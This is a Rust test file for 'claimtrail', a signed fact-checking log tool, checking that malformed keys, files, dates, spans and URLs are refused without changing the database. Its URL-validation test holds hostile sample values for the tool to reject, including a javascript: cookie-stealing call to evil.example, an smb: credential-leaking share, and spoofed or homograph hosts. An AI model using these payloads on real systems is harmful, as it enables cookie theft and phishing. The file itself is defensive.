//! Every bad input: exit 2, one `error: … (hint: …)` line, and the database
//! unchanged byte for byte (and still verifying).

use crate::common::*;

/// Runs `args` expecting an error containing `msg`, and checks the log's
/// file did not change.
#[track_caller]
fn refused(w: &Work, key: Option<&str>, args: &[&str], msg: &str) {
    let before = w.db_bytes();
    w.run(key, args).error(msg);
    assert!(
        before == w.db_bytes(),
        "the database changed after a refused {args:?}"
    );
}

#[test]
fn no_database_and_not_a_database() {
    let w = Work::new();
    w.run(None, &["list", "claims"])
        .error("no claimtrail database at");
    assert!(!w.db.exists(), "a refused command must not create the file");
    std::fs::write(
        &w.db,
        b"this is a text file, not SQLite, and long enough to be read as a header....",
    )
    .unwrap();
    // The hint names no `init` to paste: at a path that exists it fails.
    let r = w.run(None, &["verify"]);
    r.error("not a claimtrail database (it is not an SQLite file) (hint: check the --db path: a claimtrail log is the file that init made, and init makes one only at a path where nothing is yet)");
    std::fs::remove_file(&w.db).unwrap();
    // An SQLite file of another application.
    rusqlite::Connection::open(&w.db)
        .unwrap()
        .execute_batch("CREATE TABLE t(x)")
        .unwrap();
    let before = std::fs::read(&w.db).unwrap();
    w.run(None, &["log"]).error("another application");
    assert!(
        before == std::fs::read(&w.db).unwrap(),
        "another application's file was changed"
    );
    // An empty file: refused, and left empty.
    std::fs::write(&w.db, b"").unwrap();
    w.run(None, &["verify"]).error("it is an empty file");
    assert_eq!(std::fs::metadata(&w.db).unwrap().len(), 0);
    // A directory given as the database.
    let sub = w.path("desk");
    std::fs::create_dir(&sub).unwrap();
    w.run(None, &["verify", "--db", "desk"])
        .error("desk is not a claimtrail database (it is a directory) (hint: give the log's file, not its directory)");
    // With one log in it, the hint names it.
    std::fs::write(sub.join("trail.db"), b"").unwrap();
    w.run(None, &["verify", "--db", "desk"])
        .error("is not a claimtrail database (it is a directory) (hint: give the log's file, not its directory: --db desk/trail.db)");
    // A device or a named pipe: said as such (a device reads as empty, but
    // is no empty file; SQLite called a pipe a failing disk).
    let fifo = w.path("log.fifo");
    mkfifo(&fifo);
    for dev in ["/dev/null", "/dev/zero", fifo.to_str().unwrap()] {
        for args in [&["status"][..], &["verify"], &["report"], &["prove", "C1"]] {
            let mut args = args.to_vec();
            args.extend(["--db", dev]);
            w.run(None, &args).error(&format!(
                "{dev} is not a claimtrail database (it is not a regular file (a device or a pipe))"
            ));
        }
    }
}

#[test]
fn newer_schema_is_refused() {
    let w = Work::with_team();
    w.sql("PRAGMA user_version = 99");
    w.run(None, &["list", "sources"]).error("newer claimtrail");
}

#[test]
fn init_errors() {
    let w = Work::new();
    w.key("admin");
    w.run(None, &["init", "--origin", "x.example/a"])
        .error("no signing key");
    w.run(Some("missing"), &["init", "--origin", "x.example/a"])
        .error("cannot use key");
    // A directory is not a key (not a key "readable by others").
    std::fs::create_dir(w.path("keys")).unwrap();
    w.run(Some("keys"), &["init", "--origin", "x.example/a"])
        .error("keys: it is a directory");
    w.run(Some("admin.pub"), &["init", "--origin", "x.example/a"])
        .error("it is a public key, and no ssh-agent is running");
    // Files that are not a usable private key say what they look like.
    let key = std::fs::read_to_string(w.path("admin")).unwrap();
    w.key("other");
    let shapes = [
        ("empty", String::new(), "the file is empty"),
        (
            "cut",
            key[..100].to_string(),
            "a damaged or cut-short OpenSSH private key (",
        ),
        // The private key of one and the public key of another: OpenSSH
        // signs with such a file, and its signatures do not verify.
        (
            "mixed",
            patched_key(&w, "admin", "other", 3),
            "an OpenSSH private key whose parts do not agree: the public key it names is not that of its private key",
        ),
        (
            "renamed",
            patched_key(&w, "admin", "other", 1),
            "an OpenSSH private key whose parts do not agree",
        ),
        // One changed byte in the type the file states: damage, not a
        // key "of type s\u{3}h-ed25519".
        (
            "flipped",
            flipped_type_byte(&w, "admin"),
            // Without the parser's words, which quote with Rust's escapes.
            "a damaged or cut-short OpenSSH private key (hint: ",
        ),
        (
            "pkcs8",
            "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIA==\n-----END PRIVATE KEY-----\n".into(),
            "`-----BEGIN PRIVATE KEY-----` is a key format claimtrail does not read (it reads OpenSSH ed25519 private keys)",
        ),
    ];
    for (name, text, says) in shapes {
        std::fs::write(w.path(name), text).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(w.path(name), std::fs::Permissions::from_mode(0o600)).unwrap();
        w.run(Some(name), &["init", "--origin", "x.example/a"])
            .error(&format!(
                "cannot use key {}: {says}",
                w.path(name).display()
            ));
    }
    w.run(Some("admin"), &["init", "--origin", "has space"])
        .error("must not contain spaces");
    w.run(
        Some("admin"),
        &["init", "--origin", "x.example/a", "--name", "Desk\u{2060} admin"],
    )
    .error("the name Desk\\u{2060} admin holds U+2060, a control or invisible character (hint: type the name again without it");
    assert!(!w.db.exists());
    // A path ending in `/`, new or the name of a log: one error for every
    // command (status said "no database there, run init", and init that
    // the path existed, or that a part of a new one was a file).
    for args in [&["status"][..], &["init", "--origin", "x.example/a"]] {
        let mut all = vec!["--db", "new/"];
        all.extend_from_slice(args);
        w.run(Some("admin"), &all).error("error: new/ ends with /, which names a directory, and the log is a file (hint: give the file's name without the / at its end)");
    }
    assert!(!w.path("new").exists());
    // A link to nothing: said so, not "already exists".
    std::os::unix::fs::symlink("nowhere.db", w.path("dangling.db")).unwrap();
    w.run(
        Some("admin"),
        &["--db", "dangling.db", "init", "--origin", "x.example/a"],
    )
    .error("error: dangling.db is a symbolic link to nowhere.db, which does not exist (hint: a new file is made only where nothing is: give the link's target instead, or remove the link)");
    // A link into a directory that does not exist either: giving the
    // target, as the hint said, failed in turn.
    std::os::unix::fs::symlink("gone/log.db", w.path("deep.db")).unwrap();
    w.run(
        Some("admin"),
        &["--db", "deep.db", "init", "--origin", "x.example/a"],
    )
    .error("error: deep.db is a symbolic link to gone/log.db, which does not exist (hint: a new file is made only where nothing is, and the link's target's directory gone does not exist either: make it and give the target (gone/log.db), or remove the link)");
    w.run(Some("admin"), &["init", "--origin", "x.example/a"])
        .ok();
    let db = format!("{}/", w.db.display());
    w.run(None, &["--db", &db, "status"])
        .error("ends with /, which names a directory, and the log is a file");
    w.run(None, &["backup", "nb/"]).error("error: nb/ ends with /, which names a directory, and the backup is a file (hint: give the file's name without the / at its end)");
    refused(
        &w,
        Some("admin"),
        &["init", "--origin", "x.example/a"],
        "already exists",
    );
    // Where a private key file stands for its public key, one whose parts
    // name two keys stands for neither.
    let mixed = w.path("mixed");
    refused(
        &w,
        Some("admin"),
        &["key", "revoke", mixed.to_str().unwrap(), "--reason", "left"],
        &format!(
            "{}: an OpenSSH private key whose parts do not agree",
            mixed.display()
        ),
    );
}

/// Key file `from` with the first `times` copies of its public key (an
/// unencrypted OpenSSH key holds three: in the clear, and twice beside the
/// private key) replaced by key `to`'s.
/// `name`'s private key file with the second byte of the first
/// `ssh-ed25519` it states changed to 0x03.
fn flipped_type_byte(w: &Work, name: &str) -> String {
    let mut bytes = key_bytes(w, name);
    let at = bytes.windows(11).position(|x| x == b"ssh-ed25519").unwrap();
    bytes[at + 1] = 3;
    key_file(&bytes)
}

/// The bytes of `name`'s OpenSSH private key file, its PEM armour off.
fn key_bytes(w: &Work, name: &str) -> Vec<u8> {
    use base64::Engine;
    let text = std::fs::read_to_string(w.path(name)).unwrap();
    let body: String = text.lines().filter(|l| !l.starts_with("-----")).collect();
    base64::engine::general_purpose::STANDARD
        .decode(body)
        .unwrap()
}

/// An OpenSSH private key file of `bytes`, in lines of 70 as ssh-keygen
/// writes them.
fn key_file(bytes: &[u8]) -> String {
    use base64::Engine;
    let body = base64::engine::general_purpose::STANDARD.encode(bytes);
    let lines: Vec<&str> = body
        .as_bytes()
        .chunks(70)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    format!(
        "-----BEGIN OPENSSH PRIVATE KEY-----\n{}\n-----END OPENSSH PRIVATE KEY-----\n",
        lines.join("\n")
    )
}

/// A damaged private key given where a key file is read for its public
/// half (`key revoke FILE`, `status --key`) is said to be damaged: it was
/// "a private key file, which stays with its owner: give its .pub", where
/// a private key file is what the command takes.
#[test]
fn a_damaged_private_key_is_said_damaged_where_its_public_half_is_read() {
    let w = Work::with_team();
    let key = std::fs::read_to_string(w.path("analyst")).unwrap();
    std::fs::write(w.path("cut"), &key[..200]).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(w.path("cut"), std::fs::Permissions::from_mode(0o600)).unwrap();
    let before = w.db_bytes();
    let r = w.run(Some("admin"), &["key", "revoke", "cut", "--reason", "lost"]);
    r.error("cut: a damaged or cut-short OpenSSH private key (");
    assert!(!r.stderr.contains("stays with its owner"), "{}", r.stderr);
    assert!(before == w.db_bytes());
}

fn patched_key(w: &Work, from: &str, to: &str, times: usize) -> String {
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD;
    let public = |name: &str| {
        let line = std::fs::read_to_string(w.path(&format!("{name}.pub"))).unwrap();
        let blob = b64.decode(line.split(' ').nth(1).unwrap()).unwrap();
        blob[blob.len() - 32..].to_vec()
    };
    let (old, new) = (public(from), public(to));
    let mut bytes = key_bytes(w, from);
    let mut found = 0;
    let mut i = 0;
    while found < times {
        let at = i + bytes[i..].windows(32).position(|x| x == old).unwrap();
        bytes[at..at + 32].copy_from_slice(&new);
        found += 1;
        i = at + 32;
    }
    key_file(&bytes)
}

#[test]
fn init_refuses_the_leftover_wal_of_an_earlier_database() {
    let w = Work::new();
    w.key("admin");
    // An earlier log of the same name crashed with writes still in its WAL,
    // and only the database file was deleted afterwards.
    w.run(Some("admin"), &["init", "--origin", "x.example/old"])
        .ok();
    let wal = delete_leaving_its_wal(&w.db);
    w.run(Some("admin"), &["init", "--origin", "x.example/new"])
        .error("-wal holds unsaved writes of an earlier database named");
    assert!(!w.db.exists());
    // Without the check, SQLite would have applied the old log's page to
    // the new one, and verify would fail on a log just created.
    std::fs::remove_file(&wal).unwrap();
    std::fs::write(&wal, b"").unwrap(); // an empty one is harmless
    w.run(Some("admin"), &["init", "--origin", "x.example/new"])
        .ok();
    assert!(w
        .run(None, &["verify"])
        .ok()
        .contains("OK: no problems found"));
}

#[test]
fn bad_input_leaves_the_log_unchanged() {
    let w = Work::with_claims();
    let p = |n: &str| w.path(n).to_str().unwrap().to_string();
    // A long value quoted in an error is cut in the middle: the line keeps
    // its start and its hint (a 131,000-character --url was echoed whole).
    let url = format!("https://x.example/ {}", "a".repeat(131_000));
    let r = w.run(
        Some("analyst"),
        &["source", "add", FIXTURE, "--kind", "article", "--url", &url],
    );
    r.error("characters left out]…");
    assert!(r.stderr.len() < 3000, "{}", r.stderr.len());
    // An address a browser would not open, or a scheme and nothing else.
    for (url, said) in [
        (
            "http://[::1",
            "`http://[::1` is not a URL: a browser would not open it (invalid IPv6 address)",
        ),
        (
            "doi:",
            "`doi:` is not a URL: nothing follows its scheme doi:",
        ),
    ] {
        refused(
            &w,
            Some("analyst"),
            &["source", "add", FIXTURE, "--kind", "article", "--url", url],
            said,
        );
    }
    // And in a usage error: clap's message quotes the value given.
    let verdict = "x".repeat(50_000);
    let r = w.run(Some("analyst"), &["annotate", "C1", "--verdict", &verdict]);
    r.error("characters left out]…");
    assert!(r.stderr.len() < 3000, "{}", r.stderr.len());
    let before_conversion = w.db_bytes();
    std::fs::write(w.path("latin1.txt"), b"caf\xe9 au lait").unwrap();
    std::fs::write(w.path("empty.txt"), b"").unwrap();
    refused(
        &w,
        Some("analyst"),
        &["source", "add", &p("latin1.txt"), "--kind", "article"],
        "not UTF-8 text (invalid byte at offset 3); read as WINDOWS-1252, that line says `café au lait` (hint: if that reads right, convert it first: `iconv -f WINDOWS-1252 -t UTF-8 ",
    );
    // An Arabic statement and a Ukrainian one in their Windows encodings:
    // the hint converts each from its own (it always said WINDOWS-1252,
    // and following it signed Latin letters no one wrote), and shows the
    // words so read, for the desk to judge. The bytes are those of
    // `iconv -t WINDOWS-1256` and `iconv -t WINDOWS-1251`.
    std::fs::write(
        w.path("ar.txt"),
        b"\xe4\xc7\xc8\xe1\xd3: \xde\xc7\xe1 \xc7\xe1\xcf\xdd\xc7\xda \xc7\xe1\xe3\xcf\xe4\xed \xc7\xe1\xd3\xe6\xd1\xed \xc5\xe4 \xd3\xc8\xda\xc9 \xe3\xcf\xe4\xed\xed\xe4 \xde\xca\xe1\xe6\xc7\n",
    )
    .unwrap();
    refused(
        &w,
        Some("analyst"),
        &["source", "add", &p("ar.txt"), "--kind", "statement"],
        "read as WINDOWS-1256, that line says `نابلس: قال الدفاع المدني السوري إن سبعة مدنيين قتلوا` (hint: if that reads right, convert it first: `iconv -f WINDOWS-1256 -t UTF-8 ",
    );
    std::fs::write(
        w.path("uk.txt"),
        b"\xc3\xe5\xed\xef\xf0\xee\xea\xf3\xf0\xee\xf0: \xef\xe5\xf0\xe5\xe2\xb3\xf0\xe8\xf2\xe8 \xe2\xf1\xb3 \xef\xee\xe2\xb3\xe4\xee\xec\xeb\xe5\xed\xed\xff",
    )
    .unwrap();
    refused(
        &w,
        Some("analyst"),
        &["source", "add", &p("uk.txt"), "--kind", "statement"],
        "read as WINDOWS-1251, that line says `Генпрокурор: перевірити всі повідомлення` (hint: if that reads right, convert it first: `iconv -f WINDOWS-1251 -t UTF-8 ",
    );
    // UTF-8 with one stray byte (two files put together): converting it
    // all from WINDOWS-1252 would garble every accent; the byte is named.
    std::fs::write(
        w.path("stray.txt"),
        b"Le pr\xc3\xa9fet a d\xc3\xa9clar\xc3\xa9 \xe9 Idlib.\n",
    )
    .unwrap();
    refused(
        &w,
        Some("analyst"),
        &["source", "add", &p("stray.txt"), "--kind", "statement"],
        "stray.txt is UTF-8 text but for 1 byte that is not (the first at offset 23, shown as \u{fffd} in `Le préfet a déclaré \u{fffd} Idlib.`) (hint: fix them where they came from, or `iconv -f UTF-8 -t UTF-8 -c ",
    );
    // As many letters beyond ASCII as stray bytes, one of each: still
    // UTF-8 with a stray byte (read as ISO-8859-2, the hint's `iconv`
    // made the UTF-8 `café` into `cafĂŠ`).
    std::fs::write(w.path("mixed.txt"), b"caf\xc3\xa9 and caf\xe9 mix\n").unwrap();
    refused(
        &w,
        Some("analyst"),
        &["source", "add", &p("mixed.txt"), "--kind", "tweet"],
        "mixed.txt is UTF-8 text but for 1 byte that is not (the first at offset 13, shown as \u{fffd} in `café and caf\u{fffd} mix`)",
    );
    // What Notepad saves as "Unicode": the hint converts from UTF-16.
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain("A statement.".encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    std::fs::write(w.path("utf16.txt"), &utf16).unwrap();
    refused(
        &w,
        Some("analyst"),
        &["source", "add", &p("utf16.txt"), "--kind", "statement"],
        "utf16.txt is UTF-16 text (it starts with a UTF-16 byte order mark), not UTF-8 (hint: convert it first: `iconv -f UTF-16 -t UTF-8 ",
    );
    // Without the mark (what `iconv -t UTF-16LE` writes), and in Arabic,
    // whose letters' high byte 06 is a control character: both are valid
    // UTF-8, and were stored with a control byte beside each letter.
    for (text, le) in [
        ("A statement.", true),
        ("قال الدفاع المدني", true),
        ("A statement.", false),
    ] {
        let bytes: Vec<u8> = text
            .encode_utf16()
            .flat_map(|u| if le { u.to_le_bytes() } else { u.to_be_bytes() })
            .collect();
        std::fs::write(w.path("bare16.txt"), &bytes).unwrap();
        let from = if le { "UTF-16LE" } else { "UTF-16BE" };
        refused(
            &w,
            Some("analyst"),
            &["source", "add", &p("bare16.txt"), "--kind", "statement"],
            &format!("bare16.txt is {from} text without a byte order mark (a byte 00 to 08 beside each letter), not UTF-8 (hint: convert it first: `iconv -f {from} -t UTF-8 "),
        );
    }
    // The hint names the file (it said FILE), and works as printed.
    let r = w.run(
        Some("analyst"),
        &["source", "add", "utf16.txt", "--kind", "statement"],
    );
    r.error("(hint: convert it first: `iconv -f UTF-16 -t UTF-8 utf16.txt > utf16.txt.utf8`, then give utf16.txt.utf8)");
    let converted = std::process::Command::new("sh")
        .args(["-c", "iconv -f UTF-16 -t UTF-8 utf16.txt > utf16.txt.utf8"])
        .current_dir(w.dir.path())
        .status()
        .is_ok_and(|s| s.success());
    if converted {
        let r = w.run(
            Some("analyst"),
            &["source", "add", "utf16.txt.utf8", "--kind", "statement"],
        );
        assert!(r.ok().starts_with('S'), "{}", r.stdout);
        w.restore(&before_conversion);
    }
    refused(
        &w,
        Some("analyst"),
        &[
            "annotate",
            "C1",
            "--verdict",
            "false",
            "--note-file",
            &p("utf16.txt"),
        ],
        "the note in",
    );
    refused(
        &w,
        Some("analyst"),
        &["source", "add", &p("empty.txt"), "--kind", "article"],
        "is empty",
    );
    refused(
        &w,
        Some("analyst"),
        &["source", "add", &p("nope.txt"), "--kind", "article"],
        "no such file",
    );
    refused(
        &w,
        Some("analyst"),
        &["source", "add", "https://www.al-monitor.com/originals/2022/07/x", "--kind", "article"],
        "`https://www.al-monitor.com/originals/2022/07/x` is an address, not a file: claimtrail does not fetch pages (hint: save the text you read to a file and give that, with --url https://www.al-monitor.com/originals/2022/07/x)",
    );
    std::fs::write(w.path("wire.txt"), "AFP wire copy").unwrap();
    let before = w.db_bytes();
    w.run_with(
        Some("analyst"),
        &[("CLAIMTRAIL_NOW", "2026-12-01T08:30:00Z")],
        &["source", "add", &p("wire.txt"), "--kind", "news_agency", "--published", "2062-12-01"],
        None,
    )
    .error("the publication date `2062-12-01` is more than a day after the source was retrieved (2026-12-01T08:30:00Z): a source cannot be published after it was read (a day is allowed for time zones and clocks) (hint: fix --published)");
    assert!(before == w.db_bytes());
    // An optional text given empty (a script's unset variable) is refused,
    // not recorded as an empty title.
    let source: &[&str] = &["source", "add", FIXTURE, "--kind", "article"];
    let claim: &[&str] = &[
        "claim",
        "add",
        "--source",
        "S1",
        "--span",
        "0..4",
        "--speaker",
        "X",
        "--provenance",
        "article",
    ];
    let annotate: &[&str] = &["annotate", "C1", "--verdict", "false"];
    for (command, field, value) in [
        (source, "--title", ""),
        (source, "--publisher", " "),
        (source, "--author", ""),
        (source, "--url", ""),
        (claim, "--text", ""),
        (annotate, "--note", "\t"),
    ] {
        // A source's field: how to empty one, which is what an empty value
        // may have meant (`--url ""` was "`` is not a URL").
        let clear = match command == source {
            true => format!(
                " (`claimtrail source amend` empties a field with --clear {})",
                &field[2..]
            ),
            false => String::new(),
        };
        refused(
            &w,
            Some("analyst"),
            &[command, &[field, value]].concat(),
            &format!("{field} is empty (hint: leave {field} out, or give its value{clear})"),
        );
    }
    // A directory given where the checkpoint file goes: refused before
    // anything is signed (a file's path is asked for).
    refused(
        &w,
        Some("admin"),
        &["checkpoint", "--out", w.dir.path().to_str().unwrap()],
        "is a directory (hint: give a file's path, e.g. ",
    );
    // A title pasted where the URL belongs, and an address without its scheme.
    for (url, why) in [
        (
            "Russia resumes bombing",
            "it contains a space (a browser writes %20)",
        ),
        (
            "al-monitor.com/originals/2022/07",
            "it does not start with a scheme such as https://",
        ),
        // Reports carry it into ClaimReview markup that web pages embed.
        (
            "javascript:fetch('//evil.example/?c='+document.cookie)",
            "a javascript: address is not where a source was published (it is code, data or a file on one machine)",
        ),
        // A share that Windows opens with the user's credentials.
        (
            "smb://evil.example/share/report.pdf",
            "a smb: address is not where a source was published (it is code, data or a file on one machine)",
        ),
        // Shows reuters.com, goes to evil.example.
        (
            "https://www.reuters.com%2Fworld@evil.example/article",
            "it has a user name before an @ in its host, so it shows one site and goes to another (a published source's address has none)",
        ),
        // Shows reuters.com, goes to www.reuters.com.evil.example: the
        // host percent-encoded (red-team, session 62).
        (
            "https://www.reuters.com%2E%65%76%69%6C%2E%65%78%61%6D%70%6C%65/world/",
            "its host is written `www.reuters.com%2e%65%76%69%6c%2e%65%78%61%6d%70%6c%65`, which a browser reads as `www.reuters.com.evil.example`, so it shows one site and goes to another (give the host as www.reuters.com.evil.example)",
        ),
        // A program on the reader's machine, of a scheme no list names.
        (
            "zoommtg://zoom.us/join?confno=1",
            "a zoommtg: address opens a program on the reader's machine, or is no address of where a source was published (give its web address; the schemes taken are http, https, urn, doi, hdl, ark, info, tag, ipfs, ipns, at, ftp, ftps, mailto, news, magnet)",
        ),
        // A Cyrillic а in al-monitor: shown as the site, a link to another.
        (
            "https://www.\u{430}l-monitor.com/originals/2022",
            "its host name part `\u{430}l-monitor` mixes letters of different scripts, so it looks like another site (such as a Cyrillic а among Latin letters)",
        ),
        // The same host in punycode, and percent-encoded: read as the
        // browser shows it.
        (
            "https://www.xn--l-monitor-zyh.com/x",
            "its host name part `\u{430}l-monitor` mixes letters of different scripts, so it looks like another site (such as a Cyrillic а among Latin letters)",
        ),
        (
            "https://www.%D0%B0l-monitor.com/y",
            "its host name part `\u{430}l-monitor` mixes letters of different scripts, so it looks like another site (such as a Cyrillic а among Latin letters)",
        ),
        // An IPv4 address written in hex and short: the browser goes to
        // 127.0.0.1, which the reader does not see.
        (
            "https://0x7f.1/wire",
            "its host `0x7f.1` is the address 127.0.0.1 written another way, which a reader does not recognise (give it as 127.0.0.1)",
        ),
        (
            "https://0177.0.0.1:8080/wire",
            "its host `0177.0.0.1` is the address 127.0.0.1 written another way, which a reader does not recognise (give it as 127.0.0.1)",
        ),
        // Encoded, a right-to-left override still reorders what a page
        // that decodes the address shows (markdown-it decodes a link's
        // text); an encoded zero-width non-joiner of a Persian path is
        // taken (the end of this test).
        (
            "https://example.com/%e2%80%AE%3Cscript%3E",
            "it holds the bidirectional control U+202E percent-encoded, which pages that decode addresses show as the character, reordering the text around it",
        ),
    ] {
        refused(
            &w,
            Some("analyst"),
            &[
                "source",
                "add",
                &p("wire.txt"),
                "--kind",
                "news_agency",
                "--url",
                url,
            ],
            &format!("`{url}` is not a URL: {why} (hint: give the address as the browser shows it"),
        );
    }
    refused(
        &w,
        Some("analyst"),
        &["source", "add", FIXTURE, "--kind", "article"],
        "S1 already has these exact bytes",
    );
    refused(
        &w,
        Some("analyst"),
        &[
            "source",
            "add",
            &p("latin1.txt"),
            "--kind",
            "article",
            "--published",
            "22/07/2022",
        ],
        "is not a date",
    );
    // RFC 3339 has `T` (or `t`, or a space) between date and time, and a
    // year of four digits; the date-time reader claimtrail uses takes more.
    for loose in ["2022-07-22X09:30:00Z", "+2022-07-22"] {
        refused(
            &w,
            Some("analyst"),
            &["source", "add", &p("wire.txt"), "--kind", "news_agency", "--published", loose],
            &format!("`{loose}` is not a date: use YYYY-MM-DD (2022-07-22) or RFC 3339 (2022-07-22T09:30:00+03:00)"),
        );
    }
    // A placeholder, as a hint's `--title "…"` pasted as shown, is no title.
    for placeholder in ["…", "...", " ? "] {
        refused(
            &w,
            Some("analyst"),
            &["source", "add", &p("wire.txt"), "--kind", "news_agency", "--title", placeholder],
            &format!(
                "error: --title \"{}\" has no letter or digit: a placeholder, not a value (hint: give the title in words, or leave --title out)",
                placeholder.trim()
            ),
        );
    }
    // What RFC 3339 also reads (`t`, `z`, a space) is asked for in the one
    // spelling the log signs, and the year 0000 is taken for a typo.
    for (given, says) in [
        ("2022-07-22t10:00:00z", "`2022-07-22t10:00:00z` is written `2022-07-22T10:00:00Z` (T between the date and the time, Z for UTC): give it so, so that one time has one spelling in the log (hint: fix --published)"),
        ("2022-07-22 10:00:00Z", "`2022-07-22 10:00:00Z` is written `2022-07-22T10:00:00Z`"),
        ("0000-01-01", "`0000-01-01` is in the year 0000, which no source was published in (a typo?) (hint: fix --published)"),
    ] {
        refused(
            &w,
            Some("analyst"),
            &["source", "add", &p("wire.txt"), "--kind", "news_agency", "--published", given],
            says,
        );
    }
    refused(
        &w,
        Some("analyst"),
        &[
            "claim",
            "add",
            "--source",
            "S9",
            "--quote",
            "x",
            "--speaker",
            "x",
            "--provenance",
            "tweet",
        ],
        "no source S9 in this log (the last is S1)",
    );
    refused(
        &w,
        Some("analyst"),
        &[
            "claim",
            "add",
            "--source",
            "C1",
            "--quote",
            "x",
            "--speaker",
            "x",
            "--provenance",
            "tweet",
        ],
        "C1 is not a source id",
    );
    refused(
        &w,
        Some("analyst"),
        &[
            "claim",
            "add",
            "--source",
            "S1",
            "--quote",
            "eight civilians",
            "--speaker",
            "x",
            "--provenance",
            "tweet",
        ],
        "the quote does not occur in S1",
    );
    refused(
        &w,
        Some("analyst"),
        &[
            "claim",
            "add",
            "--source",
            "S1",
            "--quote",
            "Idlib",
            "--speaker",
            "x",
            "--provenance",
            "tweet",
        ],
        "times in S1",
    );
    // A quote found in dozens of places: the first ten, then a count.
    let r = w.run(
        Some("analyst"),
        &[
            "claim",
            "add",
            "--source",
            "S1",
            "--quote",
            "the",
            "--speaker",
            "x",
            "--provenance",
            "tweet",
        ],
    );
    r.error("the quote occurs ");
    assert!(
        r.stderr.contains("; 10: line ")
            && !r.stderr.contains("; 11: line ")
            && r.stderr
                .contains(" more (hint: choose one with --occurrence K (1 to "),
        "{}",
        r.stderr
    );
    assert!(r.stderr.len() < 1000, "{}", r.stderr);
    refused(
        &w,
        Some("analyst"),
        &[
            "claim",
            "add",
            "--source",
            "S1",
            "--quote",
            "Idlib",
            "--occurrence",
            "99",
            "--speaker",
            "x",
            "--provenance",
            "tweet",
        ],
        "--occurrence 99",
    );
    // Byte 6 is inside the em dash of "ALEPPO —".
    refused(
        &w,
        Some("analyst"),
        &[
            "claim",
            "add",
            "--source",
            "S1",
            "--span",
            "0..8",
            "--speaker",
            "x",
            "--provenance",
            "tweet",
        ],
        "inside a multi-byte UTF-8 character",
    );
    // Each way a span can miss the text is named as such.
    for (span, said) in [
        (
            "10..5",
            "span 10..5 ends before it starts (hint: see `claimtrail show S1 --text`",
        ),
        ("7..7", "span 7..7 is empty"),
        (
            "18446744073709551615..18446744073709551615",
            "span 18446744073709551615..18446744073709551615 ends past the source's 5,228 bytes",
        ),
        (
            "5000..99999",
            "span 5000..99999 ends past the source's 5,228 bytes",
        ),
    ] {
        let args = ["claim", "add", "--source", "S1", "--span", span];
        let args = [&args[..], &["--speaker", "x", "--provenance", "tweet"]].concat();
        refused(&w, Some("analyst"), &args, said);
    }
    refused(
        &w,
        Some("analyst"),
        &[
            "claim",
            "add",
            "--source",
            "S1",
            "--span",
            "ten..20",
            "--speaker",
            "x",
            "--provenance",
            "tweet",
        ],
        "is not a span",
    );
    refused(
        &w,
        Some("analyst"),
        &["annotate", "C7", "--verdict", "false"],
        "no claim C7",
    );
    refused(
        &w,
        Some("analyst"),
        &[
            "annotate",
            "C1",
            "--verdict",
            "false",
            "--contradicts",
            "C1",
        ],
        "links C1 to itself (hint: a claim corroborates or contradicts other claims: name another one)",
    );
    refused(
        &w,
        Some("analyst"),
        &[
            "annotate",
            "C1",
            "--verdict",
            "false",
            "--contradicts",
            "C2",
            "--corroborates",
            "C2",
        ],
        "C2 is listed in both --corroborates and --contradicts (hint: a claim is corroborated or contradicted: give it to one of the two)",
    );
    refused(
        &w,
        Some("analyst"),
        &[
            "annotate",
            "C1",
            "--verdict",
            "false",
            "--contradicts",
            "C2,C2",
        ],
        "C2 is listed twice in --contradicts (hint: list each claim once)",
    );
    refused(
        &w,
        Some("admin"),
        &["annotate", "C1", "--verdict", "false", "--supersedes", "A1"],
        "A1 is Rana Haddad's annotation of C1, not the signer's own, so it cannot be superseded by this one (hint: supersede one of your own annotations of C1, which `claimtrail list annotations --claim C1` lists, or none, to annotate beside the others)",
    );
    refused(
        &w,
        Some("admin"),
        &["annotate", "C2", "--verdict", "false", "--supersedes", "A1"],
        "A1 is an annotation of C1, not of C2, so it cannot be superseded by this one (hint: to replace it, annotate C1 with --supersedes A1; to judge C2 beside it, leave --supersedes out)",
    );
    refused(
        &w,
        Some("auditor"),
        &[
            "claim",
            "add",
            "--source",
            "S1",
            "--quote",
            "UNICEF",
            "--speaker",
            "x",
            "--provenance",
            "statement",
        ],
        "has role auditor, which may not sign claim.add",
    );
    // Told first, before what the quote would meet (`the` occurs many
    // times: it was asked to choose an --occurrence, then refused).
    refused(
        &w,
        Some("auditor"),
        &[
            "claim",
            "add",
            "--source",
            "S1",
            "--quote",
            "the",
            "--speaker",
            "x",
            "--provenance",
            "statement",
        ],
        "has role auditor, which may not sign claim.add",
    );
    refused(
        &w,
        Some("analyst"),
        &["key", "add", "auditor.pub", "--role", "analyst"],
        "may not sign key.add",
    );
    refused(
        &w,
        Some("admin"),
        &["key", "add", "analyst.pub", "--role", "analyst"],
        "already enrolled (entry 1) as Rana Haddad (hint: a key is enrolled once, and this one already has that role, as `claimtrail key list` shows: nothing to do)",
    );
    refused(
        &w,
        Some("admin"),
        &["key", "add", "analyst.pub", "--role", "auditor"],
        "already enrolled (entry 1) as Rana Haddad (hint: a key is enrolled once, as `claimtrail key list` shows; for another role, make a new key and enroll that)",
    );
    refused(
        &w,
        Some("admin"),
        &["key", "revoke", "SHA256:nope", "--reason", "mistyped"],
        "not an OpenSSH SHA256 fingerprint",
    );
    // A .pub path that is not there is said to be missing, not sought
    // among the names.
    refused(
        &w,
        Some("admin"),
        &["key", "revoke", "keys/analyst.pub", "--reason", "mistyped"],
        "keys/analyst.pub does not exist, and no key in this log is named so",
    );
    refused(
        &w,
        None,
        &["show", "C1", "--text"],
        "--text prints a source's text, and C1 is a claim (hint: `claimtrail show C1` shows the quote in its context; `claimtrail show S1 --text` the whole text of its source)",
    );
    refused(&w, None, &["show", "X1"], "is not an id: ids look like S3 (source), C12 (claim) or A7 (annotation) (hint: see the ids in this log with `claimtrail list claims`, `claimtrail list sources` or `claimtrail list annotations`)");
    // A key's fingerprint: where keys are listed, and what it signed.
    refused(&w, None, &["show", "SHA256:x1"], "error: `SHA256:x1` is not an id: ids look like S3 (source), C12 (claim) or A7 (annotation) (hint: that is a key's fingerprint: `claimtrail key list` lists the keys, and `claimtrail log --by SHA256:x1` what it signed)");
    // A speaker's name: where its claims are listed.
